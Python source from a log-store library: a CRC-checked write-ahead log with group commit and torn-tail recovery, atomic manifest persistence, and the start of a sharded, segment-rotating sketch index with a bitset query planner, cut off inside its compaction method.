_WAL_HEADER = struct.Struct("<II")  # payload length, CRC32(payload)

#: records per group-commit frame — bounds frame size so replay holds at
#: most one frame in memory, and a single flipped byte can never invalidate
#: an unbounded number of records
_FRAME_MAX_RECORDS = 4096


class WriteAheadLog:
    """Append-only, CRC-protected, torn-tail-tolerant record log.

    Records are arbitrary JSON objects (``append_record``); the store layer
    uses the ``(line, source)`` convenience (``append``/``replay``).  The
    Fig.-1 ingest pipeline's :class:`~repro.data.pipeline.EventLog` is a thin
    adapter over this class — one journal implementation, one crash story.
    """

    def __init__(self, path: str | Path, *, sync_interval: int = 1024) -> None:
        self.path = Path(path)
        self.path.parent.mkdir(parents=True, exist_ok=True)
        self.sync_interval = sync_interval
        self._f = open(self.path, "ab")
        self._pending = 0
        self.valid_bytes = 0  # set by replay_records()

    def append_record(self, obj: dict) -> None:
        payload = json.dumps(obj, separators=(",", ":")).encode()
        self._f.write(_WAL_HEADER.pack(len(payload), zlib.crc32(payload)))
        self._f.write(payload)
        self._pending += 1
        if self._pending >= self.sync_interval:
            self.sync()

    def append(self, line: str, source: str) -> None:
        self.append_record({"l": line, "s": source})

    def append_batch(self, lines: list[str], sources: list[str]) -> None:
        """Group-commit: frame a whole ingest batch as ONE CRC-protected
        record ``{"b": [[line, source], ...]}`` instead of one record per
        line — one header, one CRC, and (past ``sync_interval``) one fsync
        per batch.  Torn-tail semantics stay frame-granular: a torn or
        corrupt frame drops ALL of its records, which matches the durability
        the single fsync actually bought.  Batches beyond
        ``_FRAME_MAX_RECORDS`` split into multiple frames to bound frame
        size (replay memory ∝ one frame, not one batch)."""
        for i in range(0, len(lines), _FRAME_MAX_RECORDS):
            chunk = list(zip(lines[i : i + _FRAME_MAX_RECORDS], sources[i : i + _FRAME_MAX_RECORDS]))
            payload = json.dumps({"b": [[l, s] for l, s in chunk]}, separators=(",", ":")).encode()
            self._f.write(_WAL_HEADER.pack(len(payload), zlib.crc32(payload)))
            self._f.write(payload)
            self._pending += len(chunk)
        if self._pending >= self.sync_interval:
            self.sync()

    def sync(self) -> None:
        """Make every appended record durable (fsync)."""
        self._f.flush()
        os.fsync(self._f.fileno())
        self._pending = 0

    def replay_records(self) -> Iterator[dict]:
        """Yield whole records from the start, one at a time (a multi-GB WAL
        replays without materializing); stops at the first torn or corrupt
        record — a crash mid-write loses only the tail.  At exhaustion
        :attr:`valid_bytes` holds the length of the surviving prefix."""
        self.valid_bytes = 0
        try:
            f = open(self.path, "rb")
        except FileNotFoundError:
            return
        with f:
            while True:
                hdr = f.read(_WAL_HEADER.size)
                if len(hdr) < _WAL_HEADER.size:
                    return
                length, crc = _WAL_HEADER.unpack(hdr)
                payload = f.read(length)
                if len(payload) < length or zlib.crc32(payload) != crc:
                    return
                try:
                    rec = json.loads(payload)
                except ValueError:
                    return
                yield rec
                self.valid_bytes += _WAL_HEADER.size + length

    def replay(self) -> Iterator[tuple[str, str]]:
        """Yield surviving ``(line, source)`` records (streaming).

        Group-commit frames (``{"b": [...]}``, see :meth:`append_batch`)
        expand in order; legacy per-line records (``{"l", "s"}``) pass
        through — the two formats interleave freely in one log."""
        for rec in self.replay_records():
            if "b" in rec:
                for line, source in rec["b"]:
                    yield line, source
            else:
                yield rec["l"], rec["s"]

    def records(self) -> list[tuple[str, str]]:
        """Materialized :meth:`replay` (tests / small logs)."""
        return list(self.replay())

    def truncate(self) -> None:
        """Drop every record — called once the manifest captures the whole
        stream (``finished: true``), so replay has nothing left to do."""
        self._f.flush()
        self._f.truncate(0)
        os.fsync(self._f.fileno())
        self._pending = 0

    def trim_torn_tail(self) -> int:
        """Cut the file back to the last whole record (``valid_bytes`` as set
        by :meth:`records`).  MUST run after crash-recovery replay, before any
        new append: in append mode writes land at EOF, so without the trim new
        records would sit *behind* the unreadable garbage and be lost to every
        future replay.  Returns the number of bytes dropped."""
        self._f.flush()
        size = self.path.stat().st_size
        torn = size - self.valid_bytes
        if torn > 0:
            self._f.truncate(self.valid_bytes)
            os.fsync(self._f.fileno())
        return max(0, torn)

    def nbytes(self) -> int:
        self._f.flush()
        return self.path.stat().st_size

    def close(self) -> None:
        self._f.flush()
        self._f.close()


def _fsync_dir(path: Path) -> None:
    try:
        fd = os.open(path, os.O_RDONLY)
    except OSError:  # pragma: no cover - platform without dir fds
        return
    try:
        os.fsync(fd)
    finally:
        os.close(fd)


class StoreDir:
    """One store's directory: manifest I/O, atomic file writes, mmap cache,
    and read accounting for the open path."""

    SUBDIRS = ("data", "segments", "index", "payloads")

    def __init__(self, root: str | Path) -> None:
        self.root = Path(root)
        self.root.mkdir(parents=True, exist_ok=True)
        for d in self.SUBDIRS:
            try:
                (self.root / d).mkdir(exist_ok=True)
            except OSError:
                # opening a v1 directory on read-only media: ``payloads/``
                # does not exist there and pure reads must stay writeless —
                # nothing under a missing subdir can be referenced anyway
                if not (self.root / d).exists():
                    pass
                else:  # pragma: no cover - race on creation
                    raise
        self.bytes_read = 0
        self._mmaps: dict[str, np.memmap] = {}

    @property
    def wal_path(self) -> Path:
        return self.root / WAL_NAME

    # -- manifest -----------------------------------------------------------------

    def load_manifest(self) -> dict | None:
        p = self.root / MANIFEST_NAME
        if not p.exists():
            return None
        raw = p.read_bytes()
        self.bytes_read += len(raw)
        return _validate_manifest(json.loads(raw), p)

    def save_manifest(self, man: dict) -> None:
        """Atomic publish: readers see the old or the new manifest, never a
        partial one (tmp file + fsync + rename + directory fsync).  Compact
        separators: the manifest is on the zero-parse open path, where every
        byte counts against the read budget."""
        self.write_atomic(
            MANIFEST_NAME, json.dumps(man, separators=(",", ":")).encode()
        )

    # -- artifact files -------------------------------------------------------------

    def write_atomic(self, rel: str, data: bytes) -> None:
        path = self.root / rel
        tmp = path.with_name(path.name + ".tmp")
        with open(tmp, "wb") as f:
            f.write(data)
            f.flush()
            os.fsync(f.fileno())
        os.replace(tmp, path)
        _fsync_dir(path.parent)

    def map_bytes(self, rel: str) -> memoryview:
        """mmap an artifact file (cached per path); creating the view reads
        nothing — pages fault in when actually examined."""
        mm = self._mmaps.get(rel)
        if mm is None:
            mm = self._mmaps[rel] = np.memmap(self.root / rel, dtype=np.uint8, mode="r")
        return memoryview(mm)

    def open_sketch(self, rel: str) -> ImmutableSketch:
        """Open a sealed sketch via mmap — touches only the header."""
        reader = ImmutableSketch.from_buffer(self.map_bytes(rel))
        self.bytes_read += SKETCH_OPEN_BYTES
        return reader

    def payload_slice(self, rel: str, offset: int, length: int) -> memoryview:
        return self.map_bytes(rel)[offset : offset + length]

    def read_file(self, rel: str) -> bytes:
        raw = (self.root / rel).read_bytes()
        self.bytes_read += len(raw)
        return raw

    def gc(self, referenced: set[str]) -> list[str]:
        """Unlink artifact files the manifest no longer references (the
        unlink-old phase of atomic compaction).  Never touches the manifest
        or the WAL."""
        removed: list[str] = []
        for sub in self.SUBDIRS:
            if not (self.root / sub).is_dir():
                continue
            for p in (self.root / sub).iterdir():
                rel = f"{sub}/{p.name}"
                if p.name.endswith(".tmp") or rel not in referenced:
                    if rel in self._mmaps:
                        del self._mmaps[rel]
                    p.unlink()
                    removed.append(rel)
        return removed

    def total_file_bytes(self) -> int:
        total = 0
        for p in self.root.rglob("*"):
            if p.is_file():
                total += p.stat().st_size
        return total

    def release(self) -> None:
        self._mmaps.clear()


# -- manifest batch-entry encoding (columnar keeps the manifest tiny) ---------------

_BATCH_COLS = ("id", "file", "offset", "length", "n_lines", "raw_bytes", "group")


def encode_batch_entries(entries: list[dict]) -> dict:
    """Columnar encoding; file paths and group/source names dedup into side
    tables — the manifest scales with distinct sources, not batch count.

    Template-codec batches (v2) carry a dictionary slice ``tfile/toffset/
    tlength``; consecutive batches of one source share it, so slices intern
    into a ``tpl_slices`` side table of ``[file_idx, offset, length]`` rows
    and each batch stores one ``tref`` index (``-1`` = raw codec, no
    dictionary).  All-raw manifests omit both keys entirely, keeping the v1
    column layout."""
    files: list[str] = []
    file_idx: dict[str, int] = {}
    groups: list[str] = []
    group_idx: dict[str, int] = {}
    cols: dict[str, list] = {c: [] for c in _BATCH_COLS}

    def intern(table: list[str], idx: dict[str, int], val: str) -> int:
        i = idx.get(val)
        if i is None:
            i = idx[val] = len(table)
            table.append(val)
        return i

    tpl_slices: list[list[int]] = []
    slice_idx: dict[tuple[int, int, int], int] = {}
    trefs: list[int] = []
    for e in sorted(entries, key=lambda e: e["id"]):
        for c in _BATCH_COLS:
            if c == "file":
                cols[c].append(intern(files, file_idx, e[c]))
            elif c == "group":
                cols[c].append(intern(groups, group_idx, e[c]))
            else:
                cols[c].append(e[c])
        tfile = e.get("tfile")
        if tfile is None:
            trefs.append(-1)
            continue
        key = (intern(files, file_idx, tfile), e["toffset"], e["tlength"])
        i = slice_idx.get(key)
        if i is None:
            i = slice_idx[key] = len(tpl_slices)
            tpl_slices.append(list(key))
        trefs.append(i)
    out = {"data_files": files, "groups": groups, "batches": cols}
    if tpl_slices:
        cols["tref"] = trefs
        out["tpl_slices"] = tpl_slices
    if cols["id"] == list(range(len(cols["id"]))):
        del cols["id"]  # dense ids are implicit; decode regenerates the range
    return out


def decode_batch_entries(man: dict) -> list[dict]:
    files = man["data_files"]
    groups = man["groups"]
    cols = dict(man["batches"])
    if "id" not in cols:  # dense ids were elided at encode time
        cols["id"] = list(range(len(cols["file"])))
    tables = {"file": files, "group": groups}
    out = [
        {
            c: (tables[c][v] if c in tables else v)
            for c, v in zip(_BATCH_COLS, row)
        }
        for row in zip(*(cols[c] for c in _BATCH_COLS))
    ]
    slices = man.get("tpl_slices", [])
    trefs = cols.get("tref", [-1] * len(out))  # v1 / all-raw: no dictionaries
    for e, tr in zip(out, trefs):
        if tr < 0:
            e["tfile"], e["toffset"], e["tlength"] = None, 0, 0
        else:
            fi, off, ln = slices[tr]
            e["tfile"], e["toffset"], e["tlength"] = files[fi], off, ln
    return out


def _validate_manifest(man: dict, path: Path) -> dict:
    if man.get("format_version") not in SUPPORTED_FORMAT_VERSIONS:
        raise ValueError(
            f"unsupported store format {man.get('format_version')!r} "
            f"(expected one of {SUPPORTED_FORMAT_VERSIONS}) in {path}"
        )
    return man


def open_store(path: str | Path, **kw: Any) -> Any:
    """Open whatever store lives at ``path``, dispatching on the manifest's
    ``store`` name — the boot entry point for serving from a data directory.
    (The dispatch read is a few KB; ``cls.open`` re-reads through its own
    ``StoreDir`` so the open-path accounting stays self-contained.)"""
    p = Path(path) / MANIFEST_NAME
    if not p.exists():
        raise FileNotFoundError(f"no store manifest at {p}")
    man = _validate_manifest(json.loads(p.read_bytes()), p)
    from .store import STORE_CLASSES

    cls = STORE_CLASSES.get(man.get("store"))
    if cls is None:
        raise ValueError(f"manifest names unknown store class {man.get('store')!r}")
    return cls.open(path, **kw)


__all__ = [
    "FORMAT_VERSION",
    "SUPPORTED_FORMAT_VERSIONS",
    "MANIFEST_NAME",
    "SKETCH_OPEN_BYTES",
    "StoreDir",
    "WAL_NAME",
    "WriteAheadLog",
    "decode_batch_entries",
    "encode_batch_entries",
    "open_store",
]
