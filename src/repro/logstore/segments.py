"""Sharded, time/size-partitioned segment store (see docs/segments.md).

The monolithic :class:`~repro.logstore.store.CoprStore` builds ONE sketch and
seals it once at ``finish()`` — nothing is queryable while ingest runs, and a
long-lived deployment would accumulate an unbounded mutable sketch.  This
module is the streamed, always-queryable layout the paper targets:

* **Shard** — lines are routed by ``hash(source) % n_shards``.  Sources map to
  batch ids (postings) stably, so every posting id belongs to exactly one
  shard and cross-shard results are a disjoint union.
* **Segment** — one generation of one shard: an *active* segment accumulates
  an in-memory :class:`CoprSketch`; once it crosses the line/byte rotation
  threshold it seals into an *immutable* sketch and a fresh active segment
  starts.  Sealed segments store full 32-bit fingerprints (the §4.3
  "temporary segment" layout), which makes them exact (no signature false
  positives) and — crucially — mergeable without reingesting.
* **Compaction** — ``compact()`` merges runs of adjacent sealed segments per
  shard through the §4.3 full-fingerprint merge path
  (``iter_entries``/``decode_list`` → ``set_token_postings``), cutting the
  per-query fan-out while preserving results exactly.

Batch payload storage (compressed line batches, post-filtering) stays in the
store-wide :class:`~repro.logstore.batch.BatchWriter` — posting ids must be
globally unique, so segments share the store's writer and index lines under
their final global batch id.

Queries fan out across all shards and all sealed + active segments: each
token's posting set is the union over segments (a token's occurrences may be
split across generations), and the AND intersects those unions with early
termination — one vectorized probe per sealed segment for the whole token
set, each unique posting list decoded at most once per query batch.
"""

from __future__ import annotations

import itertools
from dataclasses import asdict
from typing import TYPE_CHECKING, Any, Iterable

import numpy as np

from ..core import SketchConfig
from ..core.bitset import bits_to_ids, empty_bits, frozen, ids_to_bits
from ..core.hashing import fingerprint32, fingerprint_tokens
from ..core.immutable_sketch import ImmutableSketch, seal as seal_mutable
from ..core.mutable_sketch import MutableSketch
from ..core.querylang import AtomKey, CandidateSet
from ..core.sketch import CoprSketch
from . import executor as _executor

if TYPE_CHECKING:
    from .persist import StoreDir
from . import kernelbridge
from .executor import (
    PostingListCache,
    chunk_evenly,
    fanout_width,
    map_in_order,
    search_workers,
)
from .store import STORE_CLASSES, LogStore, decode_sketch_config
from .tokenizer import contains_query_tokens, term_query_tokens, tokenize_line

#: process-unique Segment uids — posting-cache keys (a merged/reopened segment
#: is a NEW object with a new uid, so stale cache entries can never collide)
_SEG_UIDS = itertools.count()


class Segment:
    """One generation of one shard: active mutable sketch → sealed reader."""

    def __init__(self, segment_id: int, shard: int, config: SketchConfig) -> None:
        self.segment_id = segment_id
        self.shard = shard
        self.config = config
        self.uid = next(_SEG_UIDS)
        self.sketch: CoprSketch | None = CoprSketch(config)
        self.n_lines = 0
        self.n_bytes = 0
        self.min_batch: int | None = None
        self.max_batch: int | None = None
        #: batch ids this segment has indexed — while the segment is active
        #: these postings live only in the mutable sketch, so a snapshot must
        #: treat every one of them as an unconditional candidate (scan_ids)
        self.batch_ids: set[int] = set()
        self.sealed_buf: bytes | None = None
        self.reader: ImmutableSketch | None = None
        self.merged_from = 1  # how many original segments this one covers
        self.file: str | None = None  # store-relative sketch path once persisted

    @property
    def sealed(self) -> bool:
        return self.reader is not None

    # -- ingest -----------------------------------------------------------------

    def add_line(self, line: str, bid: int) -> None:
        assert not self.sealed, "sealed segments are immutable"
        self.sketch.add_tokens(tokenize_line(line), bid)
        self.note_line(line, bid)

    def note_line(self, line: str, bid: int) -> None:
        """Advance the segment's counters for one routed line WITHOUT the
        sketch insert — the batched ingest path defers inserts and applies
        them in bulk via :meth:`add_fingerprint_rows`."""
        self.n_lines += 1
        self.n_bytes += len(line)
        self.batch_ids.add(bid)
        self.min_batch = bid if self.min_batch is None else min(self.min_batch, bid)
        self.max_batch = bid if self.max_batch is None else max(self.max_batch, bid)

    def add_fingerprint_rows(
        self, rows: list[np.ndarray], raw_counts: np.ndarray, bids: list[int]
    ) -> None:
        """Bulk sketch insert of per-line fingerprint rows (stream order) —
        the deferred half of :meth:`note_line`."""
        assert not self.sealed, "sealed segments are immutable"
        self.sketch.add_fingerprints_many(rows, raw_counts, bids)

    def seal(self) -> None:
        """Rotate: freeze into an immutable full-fingerprint sketch."""
        if self.sealed:
            return
        merged = self.sketch.merged_mutable()
        self.sealed_buf = seal_mutable(merged, temporary=True)
        self.reader = ImmutableSketch.from_buffer(self.sealed_buf)
        self.sketch = None  # release construction memory

    @classmethod
    def from_sealed(cls, segment_id: int, shard: int, config: SketchConfig, buf: bytes) -> "Segment":
        seg = cls(segment_id, shard, config)
        seg.sketch = None
        seg.sealed_buf = buf
        seg.reader = ImmutableSketch.from_buffer(buf)
        return seg

    @classmethod
    def from_file(
        cls, entry: dict, config: SketchConfig, reader: ImmutableSketch
    ) -> "Segment":
        """Rehydrate a persisted sealed segment around an mmap'd reader
        (``sealed_buf`` stays ``None`` — the file is the buffer)."""
        seg = cls(entry["segment_id"], entry["shard"], config)
        seg.sketch = None
        seg.reader = reader
        seg.file = entry["file"]
        seg.n_lines = entry["n_lines"]
        seg.n_bytes = entry["n_bytes"]
        seg.min_batch = entry["min_batch"]
        seg.max_batch = entry["max_batch"]
        seg.merged_from = entry["merged_from"]
        return seg

    def manifest_entry(self) -> dict:
        return {
            "segment_id": self.segment_id,
            "shard": self.shard,
            "file": self.file,
            "n_lines": self.n_lines,
            "n_bytes": self.n_bytes,
            "min_batch": self.min_batch,
            "max_batch": self.max_batch,
            "merged_from": self.merged_from,
        }

    # -- query surface ------------------------------------------------------------

    def sketch_views(self) -> list:
        """The sketch objects a query must consult for this segment."""
        if self.sealed:
            return [self.reader]
        return [self.sketch.mutable, *self.sketch.temp_segments]

    def nbytes(self) -> int:
        if self.sealed:
            return len(self.sealed_buf) if self.sealed_buf is not None else self.reader.nbytes()
        return self.sketch.estimated_bytes()


# -- manifest index encoding -----------------------------------------------------------

_SEG_COLS = ("segment_id", "shard", "n_lines", "n_bytes", "min_batch", "max_batch", "merged_from")
_SEG_FILE_FMT = "segments/seg-%08d.sketch"


def encode_segment_entries(entries: list[dict]) -> dict:
    """Columnar manifest encoding for the segment index (v2 manifests).

    Keys are written once per column instead of once per segment, and file
    paths that follow the canonical ``segments/seg-%08d.sketch`` pattern
    collapse to their integer file id — the open path reads the manifest in
    full, so its size is part of the zero-parse open budget."""
    cols: dict[str, list] = {c: [e[c] for e in entries] for c in _SEG_COLS}
    files: list[int | str] = []
    for e in entries:
        f = e["file"]
        try:
            i = int(f[len("segments/seg-"):-len(".sketch")])
            files.append(i if _SEG_FILE_FMT % i == f else f)
        except ValueError:
            files.append(f)
    cols["file"] = files
    return cols


def decode_segment_entries(segs: dict | list) -> list[dict]:
    """Inverse of :func:`encode_segment_entries`; v1 manifests stored the
    index as a list of per-segment dicts and pass through unchanged."""
    if isinstance(segs, list):
        return segs
    out: list[dict] = []
    for i in range(len(segs["segment_id"])):
        e: dict = {c: segs[c][i] for c in _SEG_COLS}
        f = segs["file"][i]
        e["file"] = f if isinstance(f, str) else _SEG_FILE_FMT % f
        out.append(e)
    return out


def plan_token_sets_bits(
    token_sets: list[list[str]],
    views: list[tuple[int | None, object]],
    cache: PostingListCache | None,
    nbits: int,
) -> list[np.ndarray | None]:
    """Algorithm-3 candidate planning over a list of sketch views.

    ``views`` pairs each sketch with its cache uid: ``(uid, ImmutableSketch)``
    for sealed segments (posting lists decode through ``cache`` and survive
    across calls), ``(None, view)`` for anything transient (mutable sketches,
    §4.3 temp segments) — those decode into a per-call cache only.  All
    sealed probes run as one vectorized call per view — dispatched through
    :mod:`.kernelbridge` so ``REPRO_KERNEL_BACKEND=bass`` routes them to the
    device ``sketch_probe`` kernel — fanned over the shared worker pool when
    one is configured (order-preserving, identical to the serial loop).

    Candidate sets are packed-uint64 bitsets of width ``nbits`` (callers pass
    the sketch config's ``max_postings`` — decoded ids range over the posting
    space, not just known batches): posting lists decode into a bitset ONCE
    (cached packed), per-token cross-segment unions are word-level ORs, and
    the per-query token AND folds through ``kernelbridge.and_reduce`` (the
    ``bitset_intersect`` kernel under the ``bass`` backend).

    Returns one entry per token set: ``None`` when the set is empty (nothing
    guaranteed indexed — the caller must fall back to scanning), else the
    bitset of posting ids whose batches may contain the AND of the tokens.
    Results are NOT clamped to known batch ids — callers AND against their
    own known-mask (the live store's current one, or a snapshot's frozen
    one).

    This is the single planner shared by ``CoprStore.plan`` (one sealed
    view), the live ``ShardedCoprStore.plan`` (sealed + active views) and
    snapshots (sealed views only).
    """
    fps_per_query = [
        fingerprint_tokens(toks) if toks else np.zeros(0, dtype=np.uint32)
        for toks in token_sets
    ]
    nonempty = [f for f in fps_per_query if f.size]
    if not nonempty:
        return [None for _ in token_sets]
    all_fps = np.unique(np.concatenate(nonempty))
    fp_index = {int(fp): i for i, fp in enumerate(all_fps)}

    def probe_chunk(chunk: list[tuple[int | None, object]]) -> list[np.ndarray | None]:
        return [
            kernelbridge.probe_fn(v)(all_fps) if isinstance(v, ImmutableSketch) else None
            for _uid, v in chunk
        ]

    # fan the per-segment probes out in a few coarse chunks (capped at core
    # count) — but only for big merged atom sets: probes are vectorized
    # numpy whose GIL-released fraction grows with the fingerprint count, so
    # small probe sets parallelize at a loss (measured; docs/concurrency.md)
    w = fanout_width()
    if (
        search_workers() >= 2
        and len(views) >= 2 * w
        and all_fps.size >= _executor.PARALLEL_PROBE_MIN_FPS
    ):
        probed = [
            r
            for part in map_in_order(probe_chunk, chunk_evenly(views, w))
            for r in part
        ]
    else:
        probed = probe_chunk(views)

    # presence pre-pass: a token absent from EVERY segment empties any AND
    # it appears in — detected from the probe phase alone, no decoding
    present = np.zeros(all_fps.size, dtype=bool)
    for (_uid, v), ranks in zip(views, probed):
        if ranks is not None:
            present |= np.asarray(ranks) >= 0
        else:
            for i, fp in enumerate(all_fps.tolist()):
                if not present[i] and v.list_id_for(fp) is not None:
                    present[i] = True

    local_decode: dict[tuple[int, int], np.ndarray] = {}
    union_cache: dict[int, np.ndarray] = {}

    def list_bits(v: Any, uid: int | None, vi: int, r: int) -> np.ndarray:
        """One decoded posting list as a frozen packed bitset (cached)."""
        if cache is not None and uid is not None:
            return cache.get(
                (uid, r), lambda: frozen(ids_to_bits(v.decode_list(r), nbits))
            )
        key = (vi, r)
        got = local_decode.get(key)
        if got is None:
            got = local_decode[key] = frozen(ids_to_bits(v.decode_list(r), nbits))
        return got

    def token_union(fp: int) -> np.ndarray:
        got = union_cache.get(fp)
        if got is not None:
            return got
        i = fp_index[fp]
        union = empty_bits(nbits)
        for vi, ((uid, v), ranks) in enumerate(zip(views, probed)):
            if ranks is not None:
                r = int(ranks[i])
                if r >= 0:
                    union |= list_bits(v, uid, vi, r)
            else:
                union |= ids_to_bits(v.token_postings(fp), nbits)
        union_cache[fp] = frozen(union)
        return union

    results: list[np.ndarray | None] = []
    for toks, fps in zip(token_sets, fps_per_query):
        if not toks:
            results.append(None)  # nothing indexed → caller scans
            continue
        fp_list = fps.tolist()
        if not all(present[fp_index[fp]] for fp in fp_list):
            results.append(empty_bits(nbits))
            continue
        stack = np.stack([token_union(fp) for fp in fp_list])
        results.append(kernelbridge.and_reduce(stack))
    return results


def plan_token_sets(
    token_sets: list[list[str]],
    views: list[tuple[int | None, object]],
    cache: PostingListCache | None,
) -> list[set[int] | None]:
    """Set-of-ids surface over :func:`plan_token_sets_bits` (compat shim for
    callers/tests that consume Python sets; the pipeline uses the bitsets
    directly).  Width is inferred from the views' posting space."""
    nbits = max((getattr(v, "max_postings", 0) for _uid, v in views), default=0)
    raw = plan_token_sets_bits(token_sets, views, cache, nbits)
    return [None if b is None else set(bits_to_ids(b).tolist()) for b in raw]


class _SealedSegmentPlanner:
    """Snapshot planner: probes a frozen list of sealed segments only.

    Safe for lock-free concurrent use — every view is an immutable
    ``ImmutableSketch`` (its lazy MPHF/CSF wrappers are pre-warmed here so
    even the benign double-construction race never happens), and the posting
    cache is thread-safe.  Atoms absent from every sealed segment come back
    as the empty set; the snapshot then widens with its ``scan_ids`` (ids
    whose postings live in active mutable sketches), never with a live probe.
    """

    def __init__(
        self, segments: list[Segment], cache: PostingListCache, nbits: int
    ) -> None:
        self.pairs: list[tuple[int | None, object]] = []
        for seg in segments:
            seg.reader.mphf  # noqa: B018 - pre-warm lazy wrappers
            seg.reader.csf
            self.pairs.append((seg.uid, seg.reader))
        self.cache = cache
        #: bitset width for ``bits`` results (the store's posting space) —
        #: snapshots build their known/scan masks at this width
        self.nbits = nbits

    def __call__(self, atom_keys: list[AtomKey]) -> list[set[int] | None]:
        raw = self.bits(atom_keys)
        return [None if b is None else set(bits_to_ids(b).tolist()) for b in raw]

    def bits(self, atom_keys: list[AtomKey]) -> list[np.ndarray | None]:
        token_sets = [
            contains_query_tokens(t) if contains else term_query_tokens(t)
            for t, contains in atom_keys
        ]
        return plan_token_sets_bits(token_sets, self.pairs, self.cache, self.nbits)


class ShardedCoprStore(LogStore):
    """N-shard COPR store with per-shard segment rotation and compaction.

    Drop-in :class:`LogStore`: identical post-filtered query results to the
    monolithic :class:`CoprStore` over the same ingested lines (the sketch
    layer never drops a true posting; per-token unions across segments
    reconstruct the global posting set exactly).
    """

    name = "sharded"

    def __init__(
        self,
        *,
        n_shards: int = 4,
        lines_per_segment: int = 4096,
        bytes_per_segment: int | None = None,
        sketch_config: SketchConfig | None = None,
        flush_on_seal: bool = True,
        posting_cache_lists: int = 4096,
        **kw: Any,
    ) -> None:
        super().__init__(**kw)
        cfg = sketch_config or SketchConfig(max_postings=self.max_batches)
        assert cfg.max_postings >= self.max_batches
        self.sketch_config = cfg
        self.n_shards = n_shards
        self.lines_per_segment = lines_per_segment
        self.bytes_per_segment = bytes_per_segment
        self.flush_on_seal = flush_on_seal  # persistent stores checkpoint per rotation
        # decoded posting lists of SEALED segments, shared across queries and
        # snapshots (a runtime tuning knob — deliberately not in _config())
        self.posting_cache = PostingListCache(max_lists=posting_cache_lists)
        self.active: dict[int, Segment] = {}
        self.sealed_segments: dict[int, list[Segment]] = {s: [] for s in range(n_shards)}
        self._next_segment_id = 0
        self._next_file_id = 0
        self.n_rotations = 0
        self.n_compactions = 0

    # -- ingest ------------------------------------------------------------------

    def shard_of(self, source: str) -> int:
        return fingerprint32(source) % self.n_shards

    def _ingest_batch(self, lines: list[str], sources: list[str]) -> None:
        """Batched routing with exact looped-path interleaving.

        One fingerprint sweep covers the whole batch up front, then lines
        stream through in order: batch-id allocation, shard routing, segment
        creation and rotation all happen at the same stream positions as
        looping ``ingest`` — including the per-rotation ``flush()`` of
        persistent ``flush_on_seal`` stores, so flushed artifacts are
        byte-identical.  Sketch inserts are the only deferred part (applied
        per segment in stream order, which the sketch's cadence emulation
        keeps state-identical); when rotation itself can be deferred (no
        per-rotation flush), sealing fans out across the search pool.
        """
        rows, raw_counts = kernelbridge.fingerprint_lines(lines)
        flushing = self.storedir is not None and self.flush_on_seal and not self._replaying
        shard_cache: dict[str, int] = {}
        # per active segment: row indices + bids routed to it, pending insert
        pending: dict[int, tuple[Segment, list[int], list[int]]] = {}
        to_seal: list[tuple[int, Segment]] = []
        for i, (line, src) in enumerate(zip(lines, sources)):
            bid = self.writer.add(line, group=src)
            shard = shard_cache.get(src)
            if shard is None:
                shard = shard_cache[src] = self.shard_of(src)
            seg = self.active.get(shard)
            if seg is None:
                seg = self.active[shard] = Segment(
                    self._alloc_segment_id(), shard, self.sketch_config
                )
            seg.note_line(line, bid)
            entry = pending.get(seg.uid)
            if entry is None:
                entry = pending[seg.uid] = (seg, [], [])
            entry[1].append(i)
            entry[2].append(bid)
            if self._should_rotate(seg):
                if flushing:
                    # checkpointing per rotation: complete this segment's
                    # inserts and seal+flush at the exact stream position the
                    # looped path would
                    self._apply_pending(pending.pop(seg.uid), rows, raw_counts)
                    self.rotate_shard(shard)
                else:
                    self.active.pop(shard)
                    to_seal.append((shard, seg))
        for entry in pending.values():
            self._apply_pending(entry, rows, raw_counts)
        if to_seal:
            self._parallel_seal([seg for _shard, seg in to_seal])
            for shard, seg in to_seal:
                self.sealed_segments[shard].append(seg)
                self.n_rotations += 1

    def _apply_pending(
        self,
        entry: tuple[Segment, list[int], list[int]],
        rows: list[np.ndarray],
        raw_counts: np.ndarray,
    ) -> None:
        seg, idxs, bids = entry
        seg.add_fingerprint_rows(
            [rows[i] for i in idxs],
            raw_counts[np.asarray(idxs, dtype=np.int64)],
            bids,
        )

    def _parallel_seal(self, segs: list[Segment]) -> None:
        """Seal many rotated segments, fanned across the search pool behind
        the measured break-even gate (sealing is sort + MPHF + bit-packing —
        mostly GIL-released numpy, so threads overlap well given ≥2 cores;
        on one core the pool measurably loses, hence the width gate)."""
        if (
            search_workers() >= 2
            and _executor.fanout_width() >= 2
            and len(segs) >= _executor.PARALLEL_SEAL_MIN_SEGMENTS
        ):
            map_in_order(Segment.seal, segs)
        else:
            for seg in segs:
                seg.seal()

    def _alloc_segment_id(self) -> int:
        i = self._next_segment_id
        self._next_segment_id += 1
        return i

    def _should_rotate(self, seg: Segment) -> bool:
        if seg.n_lines >= self.lines_per_segment:
            return True
        return (
            self.bytes_per_segment is not None
            and seg.n_bytes >= self.bytes_per_segment
        )

    def rotate_shard(self, shard: int) -> Segment | None:
        """Seal the shard's active segment (if any) and start a new one lazily.

        A persistent store checkpoints per rotation (``flush_on_seal``): the
        sealed sketch hits disk as it seals, so the ingest driver's durable
        state advances segment by segment, not only at ``finish()``.
        """
        with self._write_lock:
            seg = self.active.pop(shard, None)
            if seg is None or seg.n_lines == 0:
                return None
            seg.seal()
            self.sealed_segments[shard].append(seg)
            self.n_rotations += 1
            if self.storedir is not None and self.flush_on_seal and not self._replaying:
                self.flush()
            return seg

    def _finish_index(self) -> None:
        # pre-seal every remaining active segment (parallel when the pool +
        # gate allow); rotate_shard's seal() is then an idempotent no-op and
        # the per-rotation bookkeeping/flush sequence runs unchanged
        self._parallel_seal(
            [seg for seg in self.active.values() if seg.n_lines > 0]
        )
        for shard in list(self.active):
            self.rotate_shard(shard)

    # -- segment inventory ---------------------------------------------------------

    def segments(self) -> list[Segment]:
        out: list[Segment] = []
        for shard in range(self.n_shards):
            out.extend(self.sealed_segments[shard])
        out.extend(self.active.values())
        return out

    @property
    def n_segments(self) -> int:
        return sum(len(v) for v in self.sealed_segments.values()) + len(self.active)

    @property
    def n_sealed_segments(self) -> int:
        return sum(len(v) for v in self.sealed_segments.values())

    # -- compaction (§4.3 merge path) ----------------------------------------------

    def compact(self, shard: int | None = None, *, fanin: int | None = None) -> int:
        """Merge runs of adjacent sealed segments; returns #merges performed.

        ``fanin`` bounds how many adjacent segments fold into one per merge
        (default: all of a shard's sealed segments collapse into one).  Query
        results are preserved exactly — sealed segments carry full
        fingerprints, so merging is lossless.
        """
        with self._write_lock:
            return self._compact_locked(shard, fanin)

    def _compact_locked(self, shard: int | None, fanin: int | None) -> int:
        shards = [shard] if shard is not None else list(range(self.n_shards))
        merges = 0
